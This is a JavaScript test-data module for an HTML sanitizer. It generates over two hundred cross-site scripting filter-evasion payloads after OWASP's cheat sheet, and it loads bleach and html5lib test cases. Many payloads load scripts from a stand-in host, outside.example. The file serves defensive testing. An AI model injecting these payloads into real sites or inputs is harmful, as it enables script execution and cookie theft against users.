// Markup that is meant to run or to load where it should not. It judges nothing.
//
// The list is after the classes of OWASP's "XSS Filter Evasion Cheat Sheet", which no registry carries: written
// down from memory, then compared class by class with its text in the repository OWASP/CheatSheetSeries
// (cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.md); hosts are of this project's own. The others are read from source
// distributions on PyPI: the cases of the cleaning library bleach (tests/data, which come from that sheet),
// and the tree-construction tests of html5lib.

import { existsSync, readFileSync, readdirSync } from "node:fs";
import { fileURLToPath } from "node:url";

/** A list in parts of so many. */
export function shares(list, count) {
  const parts = Math.ceil(list.length / count);
  return Array.from({ length: parts }, (_, part) => list.slice(part * count, (part + 1) * count));
}

/** What evasions call, and where they load from. */
const CALL = "alert('XSS')";
const OUT = "outside.example";

/** A character reference for each character of a text, as the sheet has them. */
const references = (text, write) => [...text].map((character) => write(character.codePointAt(0))).join("");

const ADDRESS = `javascript:${CALL}`;
const DECIMAL = references(ADDRESS, (point) => `&#${point};`);
const LONG_DECIMAL = references(ADDRESS, (point) => `&#${String(point).padStart(7, "0")}`);
const HEXADECIMAL = references(ADDRESS, (point) => `&#x${point.toString(16)}`);
const CODES = [...CALL].map((character) => character.charCodeAt(0)).join(",");
const CODED = `eval(String.fromCharCode(${CODES}))`;
const base64 = (text) => Buffer.from(text).toString("base64");
const DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script type="text/ecmascript">${CALL};</script></svg>`;

/** Elements that the sheet gives handlers, and handlers that run without a hand. */
const HANDLED = ["img src=x", "input autofocus", "select autofocus", "textarea autofocus", "video src=x", "audio src=x", "body", "iframe", "object data=x", "details open", "marquee", "svg", "style", "embed src=x", "link rel=stylesheet href=x", "keygen autofocus", "isindex", "table background=x", "form", "button autofocus", "math", "div contenteditable autofocus tabindex=0"];
const HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onpageshow", "onscroll", "onbegin", "onanimationstart", "onmouseover", "onresize", "onpropertychange", "onreadystatechange", "onbeforeunload"];

/** The handlers that the sheet names: those that need a hand, and those of browsers of old. */
const NAMED_HANDLERS =
  "abort activate afterprint afterupdate beforeactivate beforecopy beforecut beforedeactivate beforeeditfocus beforepaste " +
  "beforeprint beforeunload beforeupdate begin blur bounce cellchange change click contextmenu controlselect copy cut " +
  "dataavailable datasetchanged datasetcomplete dblclick deactivate drag dragend dragleave dragenter dragover dragdrop " +
  "dragstart drop end error errorupdate filterchange finish focus focusin focusout hashchange help input keydown keypress " +
  "keyup layoutcomplete load losecapture mediacomplete mediaerror message mousedown mouseenter mouseleave mousemove " +
  "mouseout mouseover mouseup mousewheel move moveend movestart offline online outofsync paste pause popstate progress " +
  "propertychange readystatechange redo repeat reset resize resizeend resizestart resume reverse rowsenter rowexit " +
  "rowdelete rowinserted scroll seek select selectionchange selectstart start stop storage syncrestored submit timeerror " +
  "trackchange undo unload urlflip";
/** As many of them on one element as are read of a tag, and fewer. */
const MANY_HANDLERS = NAMED_HANDLERS.split(" ").map((name) => `on${name}="${CALL}"`);

/** The spellings of a sign that begins a tag: by name, by number with noughts before it, with and without an end. */
const NOUGHTS = Array.from({ length: 6 }, (_, count) => "0".repeat(count));
const NUMBERED = NOUGHTS.flatMap((noughts) => [`#${noughts}60`, ...["x3c", "x3C", "X3c", "X3C"].map((hex) => `#${hex[0]}${noughts}${hex.slice(1)}`)]);
const LESS = ["%3C", "\\x3c", "\\u003C", ...["lt", "LT", ...NUMBERED].flatMap((name) => [`&${name}`, `&${name};`])];

export const EVASIONS = [
  // A locator, and cases in letters, quotes and brackets.
  `'';!--"<XSS>=&{()}`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${CALL}//'>`,
  `<SCRIPT SRC=http://${OUT}/xss.js></SCRIPT>`,
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<IMG SRC="${ADDRESS};">`,
  `<IMG SRC=${ADDRESS}>`,
  `<IMG SRC=JaVaScRiPt:${CALL}>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="${CALL}">xxs link</a>`,
  `<a onmouseover=${CALL}>xxs link</a>`,
  `\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>`,
  `<IMG """><SCRIPT>${CALL}</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  // Handlers in the place of addresses.
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="${references(ADDRESS, (point) => `&#${String(point).padStart(7, "0")}`)}">`,
  `<img src=x onerror=${CODED}>`,
  // Character references without and with their ends.
  `<IMG SRC=${DECIMAL}>`,
  `<a href="${DECIMAL}">Click Me!</a>`,
  `<IMG SRC=${LONG_DECIMAL}>`,
  `<IMG SRC=${HEXADECIMAL}>`,
  `<a href=${LONG_DECIMAL}>a</a>`,
  `<a href=${HEXADECIMAL}>a</a>`,
  // White space and control characters within.
  `<IMG SRC="jav\tascript:${CALL};">`,
  `<IMG SRC="jav&#x09;ascript:${CALL};">`,
  `<a href="jav\tascript:${CALL};">Click Me</a>`,
  `<IMG SRC="jav&#x0A;ascript:${CALL};">`,
  `<a href="jav&#x0A;ascript:${CALL};">Click Me</a>`,
  `<IMG SRC="jav&#x0D;ascript:${CALL};">`,
  `<IMG\nSRC\n=\n"\nj\na\nv\na\ns\nc\nr\ni\np\nt\n:\na\nl\ne\nr\nt\n(\n'\nX\nS\nS\n'\n)\n"\n>`,
  `<IMG SRC=java\0script:${CALL}>`,
  `<SCR\0IPT>${CALL}</SCR\0IPT>`,
  `<IMG SRC=" &#14;  ${ADDRESS};">`,
  `<a href=" &#14;  ${ADDRESS};">a</a>`,
  `<a href="\u0001${ADDRESS}">a</a>`,
  `<a href="java&Tab;script&colon;${CALL}">a</a>`,
  `<a href="&NewLine;javascript&colon;${CALL}">a</a>`,
  // Names that do not end where they seem to.
  `<SCRIPT/XSS SRC="http://${OUT}/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${CALL}>`,
  `<SCRIPT/SRC="http://${OUT}/xss.js"></SCRIPT>`,
  `<img/src=x/onerror=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg\fonload=${CALL}>`,
  `<<SCRIPT>${CALL};//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://${OUT}/xss.js?< B >`,
  `<SCRIPT SRC=//${OUT}/.j>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://${OUT}/scriptlet.html <`,
  `\\";${CALL};//`,
  `</script><script>${CALL};</script>`,
  `</TITLE><SCRIPT>${CALL};</SCRIPT>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `" onmouseover="${CALL}" autofocus onfocus="${CALL}" x="`,
  `' autofocus onfocus='${CALL}' x='`,
  // Elements and attributes that load.
  `<INPUT TYPE="IMAGE" SRC="${ADDRESS};">`,
  `<BODY BACKGROUND="${ADDRESS}">`,
  `<IMG DYNSRC="${ADDRESS}">`,
  `<IMG LOWSRC="${ADDRESS}">`,
  `<STYLE>li {list-style-image: url("${ADDRESS}");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<IMG SRC="livescript:[code]">`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script xlink:href="http://${OUT}/a.js"></script></svg>`,
  `<svg><a xlink:href="${ADDRESS}"><text y=20>a</text></a></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="${ADDRESS}"></svg>`,
  `<svg><use href="http://${OUT}/u.svg#x"></use></svg>`,
  `<svg><image href="http://${OUT}/i.png"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<svg><style>{font-family:'<iframe/onload=${CALL}>'</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${CALL}></style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<math href="${ADDRESS}"><mi>a</mi></math>`,
  `<math><maction actiontype="statusline#http://${OUT}" xlink:href="${ADDRESS}">a</maction></math>`,
  `<math alttext="<img src=x onerror=${CALL}>"><mi>a</mi></math>`,
  `<math><mtext>&lt;img src=x onerror=${CALL}&gt;</mtext></math>`,
  `<math><annotation encoding="application/x-tex">\\text{&lt;script>${CALL}&lt;/script>}</annotation></math>`,
  `\\(\\text{<script>${CALL}</script>}\\) $\\href{${ADDRESS}}{x}$`,
  `<span class="math">\\text{&lt;img src=x onerror=${CALL}>}^2</span>`,
  `<script type="math/tex">\\text{<img src=x onerror=${CALL}>}</script>`,
  `<BGSOUND SRC="${ADDRESS};">`,
  `<BR SIZE="&{${CALL}}">`,
  `<LINK REL="stylesheet" HREF="${ADDRESS};">`,
  `<LINK REL="stylesheet" HREF="http://${OUT}/xss.css">`,
  `<link rel=preload as=image href="http://${OUT}/p.png"><link rel=prefetch href="http://${OUT}/f">`,
  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
  `<STYLE>@import'http://${OUT}/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://${OUT}/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://${OUT}/xssmoz.xml#xss")}</STYLE>`,
  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(${CALL})">`,
  `<STYLE TYPE="text/javascript">${CALL};</STYLE>`,
  `<STYLE>.XSS{background-image:url("${ADDRESS}");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE type="text/css">BODY{background:url("http://${OUT}/b.png")}</STYLE>`,
  `<XSS STYLE="xss:expression(${CALL})">`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `exp/*<A STYLE='no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`,
  `¼script¾alert(¢XSS¢)¼/script¾`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=${ADDRESS};">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,${base64(`<script>${CALL}</script>`)}">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=${ADDRESS};">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=http://${OUT}/r">`,
  `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>${CALL}</SCRIPT>">`,
  `<IFRAME SRC="${ADDRESS};"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<IFRAME SRCDOC="<script>parent.${CALL}</script>"></IFRAME>`,
  `<iframe src="http://${OUT}/video/1" title="<script>${CALL}</script>" allowfullscreen></iframe>`,
  `<iframe src='http://${OUT}/video/"><script>${CALL}</script>' title='"><script>${CALL}</script>'></iframe>`,
  `<iframe src="javascript:${CALL}//video" allowfullscreen></iframe>`,
  `<FRAMESET><FRAME SRC="${ADDRESS};"></FRAMESET>`,
  `<TABLE BACKGROUND="${ADDRESS}">`,
  `<TABLE><TD BACKGROUND="http://${OUT}/t.png">`,
  `<DIV STYLE="background-image: url(${ADDRESS})">`,
  `<DIV STYLE="background-image: url(http://${OUT}/d.png)">a</DIV>`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="background-image: url(&#1;${ADDRESS})">`,
  `<DIV STYLE="width: expression(${CALL});">`,
  `<!--[if gte IE 4]><SCRIPT>${CALL};</SCRIPT><![endif]-->`,
  `<!--><script>${CALL}</script>-->`,
  `<!--!><script>${CALL}</script>-->`,
  `<!-- --!><script>${CALL}</script>-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<?xml version="1.0"?><script>${CALL}</script>`,
  `<BASE HREF="javascript:${CALL};//"><a href="x">a</a>`,
  `<BASE HREF="http://${OUT}/"><img src=b.png>`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://${OUT}/scriptlet.html"></OBJECT>`,
  `<OBJECT data="${ADDRESS}" type="text/html"></OBJECT>`,
  `<OBJECT data="data:text/html;base64,${base64(`<script>parent.${CALL}</script>`)}"></OBJECT>`,
  `<EMBED SRC="http://${OUT}/xss.swf" AllowScriptAccess="always"></EMBED>`,
  `<EMBED SRC="data:image/svg+xml;base64,${base64(DRAWING)}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<embed code="http://${OUT}/e.swf" allowscriptaccess=always></embed>`,
  `<applet code="javascript:confirm(document.cookie)">`,
  `<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:${CALL};">]]></C></X></xml><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>`,
  `<XML SRC="xsstest.xml" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>`,
  `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>${CALL}</SCRIPT>"></BODY></HTML>`,
  `<SCRIPT SRC="http://${OUT}/xss.jpg"></SCRIPT>`,
  `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://${OUT}/xss.js></SCRIPT>'"-->`,
  `<? echo('<SCR)';echo('IPT>alert("XSS")</SCRIPT>'); ?>`,
  `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-${CALL};+ADw-/SCRIPT+AD4-`,
  // Quotes within tags.
  `<SCRIPT a=">" SRC="http://${OUT}/xss.js"></SCRIPT>`,
  `<SCRIPT =">" SRC="http://${OUT}/xss.js"></SCRIPT>`,
  `<SCRIPT a=">" '' SRC="http://${OUT}/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="http://${OUT}/xss.js"></SCRIPT>`,
  "<SCRIPT a=`>` SRC=\"http://outside.example/xss.js\"></SCRIPT>",
  `<SCRIPT a=">'>" SRC="http://${OUT}/xss.js"></SCRIPT>`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="http://${OUT}/xss.js"></SCRIPT>`,
  `<a title="></a><script>${CALL}</script>">a</a>`,
  `<p title="</noscript><img src=x onerror=${CALL}>">a</p>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  // Spellings of addresses.
  `<A HREF="http://66.102.7.147/">XSS</A>`,
  `<A HREF="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">XSS</A>`,
  `<A HREF="http://1113982867/">XSS</A>`,
  `<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>`,
  `<A HREF="http://0102.0146.0007.00000223/">XSS</A>`,
  `<A HREF="h\ntt\tp://6\t6.000146.0x7.147/">XSS</A>`,
  `<A HREF="//${OUT}/">XSS</A>`,
  `<A HREF="javascript:document.location='http://${OUT}/'">XSS</A>`,
  `<A HREF="data:text/html,<script>${CALL}</script>">a</A>`,
  `<A HREF="vbscript:x">a</A><A HREF="view-source:http://${OUT}/">a</A><A HREF="blob:http://${OUT}/1">a</A>`,
  `<a href="http://${OUT}/" ping="http://${OUT}/ping">a</a>`,
  `<a href="${ADDRESS}#fn1"><sup>1</sup></a><p id="fn1"><img src=x onerror=${CALL}>note</p>`,
  `<sup><a href="#&quot;><script>${CALL}</script>">1</a></sup><p id='"><script>${CALL}</script>'>note</p>`,
  // Pictures, sound and film.
  `<img src="http://${OUT}/i.png" srcset="http://${OUT}/j.png 2x" alt="${CALL}">`,
  `<img src=x alt="&quot; onerror=${CALL} x=&quot;<script>${CALL}</script>">`,
  `<picture><source srcset="http://${OUT}/k.png"><img src="http://${OUT}/l.png"></picture>`,
  `<image src=x onerror=${CALL}>`,
  `<video poster="http://${OUT}/m.png" src="http://${OUT}/n.webm" autoplay><source onerror=${CALL}></video>`,
  `<video src="javascript:${CALL}" title="<img src=x onerror=${CALL}>"></video>`,
  `<audio src="http://${OUT}/o.ogg" autoplay></audio><track src="http://${OUT}/t.vtt">`,
  `<input type=image src="http://${OUT}/q.png" formaction="${ADDRESS}">`,
  `<form action="${ADDRESS}"><button formaction="${ADDRESS}">a</button></form>`,
  `<isindex type=image src=1 onerror=${CALL} action="${ADDRESS}">`,
  `<object><param name=src value="${ADDRESS}"></object>`,
  `<template><script>${CALL}</script></template><template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
  `<listing>&lt;img src=x onerror=${CALL}&gt;</listing><plaintext><img src=x onerror=${CALL}>`,
  `<xmp><p title="</xmp><svg/onload=${CALL}>">`,
  `<select><option><style></option></select><img src=x onerror=${CALL}></style>`,
  `<x onclick=${CALL} contenteditable autofocus onfocus=${CALL} tabindex=1 id=x>a</x>`,
  `<dialog open onclose=${CALL}><form method=dialog></form></dialog>`,
  `<details ontoggle=${CALL} open><summary>a</summary></details>`,
  `<pre class='language-"><script>${CALL}</script>'>a</pre><pre class="language-&lt;b&gt;">a</pre>`,
  `<blockquote cite="${ADDRESS}">a<footer><script>${CALL}</script><cite>b</cite></footer></blockquote>`,
  `<table><caption><script>${CALL}</script></caption><tr><th onclick=${CALL}>a<td><svg onload=${CALL}></table>`,
  `<ruby><rt><script>${CALL}</script></ruby>`,
  `<p lang='"><script>${CALL}</script>' dir='"><img src=x onerror=${CALL}>'>a</p>`,
  `\u202e<script>${CALL}</script>`,
  `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${CALL}&amp;lt;/script&amp;gt;`,
  `{{constructor.constructor("${CALL}")()}}\${${CALL}}<%= ${CALL} %>`,
  `<script>Set.constructor\`alert\\x28document.domain\\x29\`\`\`</script>`,
  `<BODY ONLOAD =${CALL}>`,
  `<img src=x onerror="eval(atob('${base64(CALL)}'))">`,
  `<IMG SRC="http://${OUT}/command?variables=gates">`,
  `<a href="/share?kind=1&title=A plain title&amp;kind=1;${CALL}">Share</a>`,
  `<A HREF="http://gates.example@${OUT}">XSS</A><A HREF="http://gates:${OUT}">XSS</A><A HREF="http://${OUT}./">XSS</A>`,
  ...shares(LESS, 6).map((some) => some.map((less) => `${less}script>${CALL}${less}/script>`).join(" ")),
  ...shares(MANY_HANDLERS, 50).flatMap((some) => ["img src=x", "div tabindex=0", "a href=x"].map((element) => `<${element} ${some.join(" ")}>a</a>`)),
  ...HANDLED.flatMap((element) => [`<${element} ${HANDLERS.map((handler) => `${handler}="${CALL}"`).join(" ")}>a`]),
];

const PACKAGES = fileURLToPath(new URL("../../reference/python_packages/", import.meta.url));

function folder(path) {
  const found = PACKAGES + path;
  if (!existsSync(found)) {
    throw new Error(`there is nothing at ${found}: run tests/run, which unpacks it there`);
  }
  return found;
}

/** The cases of bleach 6.2.0. */
export function cleaningCases() {
  const at = folder("bleach-6.2.0/tests/data/");
  const files = readdirSync(at).filter((name) => name.endsWith(".test")).sort();
  return files.map((name) => readFileSync(at + name, "utf8").split("\n--\n")[0]);
}

/** The documents of html5lib 1.1's tree-construction tests. */
export function parsingCases() {
  const at = folder("html5lib-1.1/html5lib/tests/testdata/tree-construction/");
  const files = readdirSync(at).filter((name) => name.endsWith(".dat")).sort();
  return files.flatMap((name) => {
    const cases = `\n${readFileSync(at + name, "utf8")}`.split("\n#data\n").slice(1);
    return cases.map((text) => text.split("\n#errors")[0]);
  });
}
